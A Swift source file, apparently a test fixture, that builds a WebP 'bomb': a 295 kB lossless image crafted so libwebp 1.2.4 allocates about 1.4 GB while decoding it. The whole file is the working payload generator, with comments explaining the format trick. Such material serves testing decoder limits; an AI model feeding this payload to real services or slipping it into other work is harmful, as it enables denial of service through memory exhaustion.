/// A lossless WebP of 1024 x 1024 black pixels in 295 kB, for which libwebp 1.2.4 allocates 1.4 GB: every block of 4 x 4 pixels
/// has prefix codes of its own, each with room for a cache of 2,048 colours (RFC 9649 sections 5 and 6).
package enum WebPBomb {
    package static let bytes: [UInt8] = {
        var bits = BitWriter()
        bits.put(0x2F, 8)
        bits.put(1_023, 14)
        bits.put(1_023, 14)
        // No alpha, version 0, no transform; a cache of 2^11 colours; blocks of 2^2 pixels.
        bits.put(0, 1 + 3 + 1)
        bits.put(1, 1)
        bits.put(11, 4)
        bits.put(1, 1)
        bits.put(0, 3)
        putBlocks(&bits)
        for _ in 0..<65_536 { for _ in 0..<5 { putOneSymbol(&bits) } }
        return riff(bits.bytes)
    }()

    /// A picture of 256 x 256 pixels, whose red and green are the number of a block's codes: each number once.
    private static func putBlocks(_ bits: inout BitWriter) {
        bits.put(0, 1)
        putBytes(&bits, isWhole: false)
        putBytes(&bits, isWhole: true)
        // Blue, alpha and distance are 0.
        for _ in 0..<3 { putOneSymbol(&bits) }
        for number in 0..<65_536 { bits.put(number, 16) }
    }

    /// A code of 8 bits for each of the symbols 0...255. `isWhole`: the alphabet has no more.
    private static func putBytes(_ bits: inout BitWriter, isWhole: Bool) {
        bits.put(0, 1)
        // Of the lengths of codes, only 8 has a code, of no bits: it is the twelfth in their order.
        bits.put(12 - 4, 4)
        for _ in 0..<11 { bits.put(0, 3) }
        bits.put(1, 3)
        bits.put(isWhole ? 0 : 1, 1)
        if isWhole { return }
        // Of the first 256 symbols, a number of 8 bits.
        bits.put(3, 3)
        bits.put(256 - 2, 8)
    }

    /// A simple code: symbol 0, in no bits.
    private static func putOneSymbol(_ bits: inout BitWriter) { bits.put(0b0001, 4) }

    private static func riff(_ data: [UInt8]) -> [UInt8] {
        let padding = [UInt8](repeating: 0, count: data.count & 1)
        let chunk = Array("VP8L".utf8) + number(data.count) + data + padding
        return Array("RIFF".utf8) + number(4 + chunk.count) + Array("WEBP".utf8) + chunk
    }

    private static func number(_ value: Int) -> [UInt8] { (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * $0)) } }
}

/// The lowest bit first.
private struct BitWriter {
    private(set) var bytes: [UInt8] = []
    private var count = 0

    mutating func put(_ value: Int, _ bits: Int) {
        for bit in 0..<bits {
            if count & 7 == 0 { bytes.append(0) }
            bytes[count >> 3] |= UInt8(value >> bit & 1) << UInt8(count & 7)
            count += 1
        }
    }
}
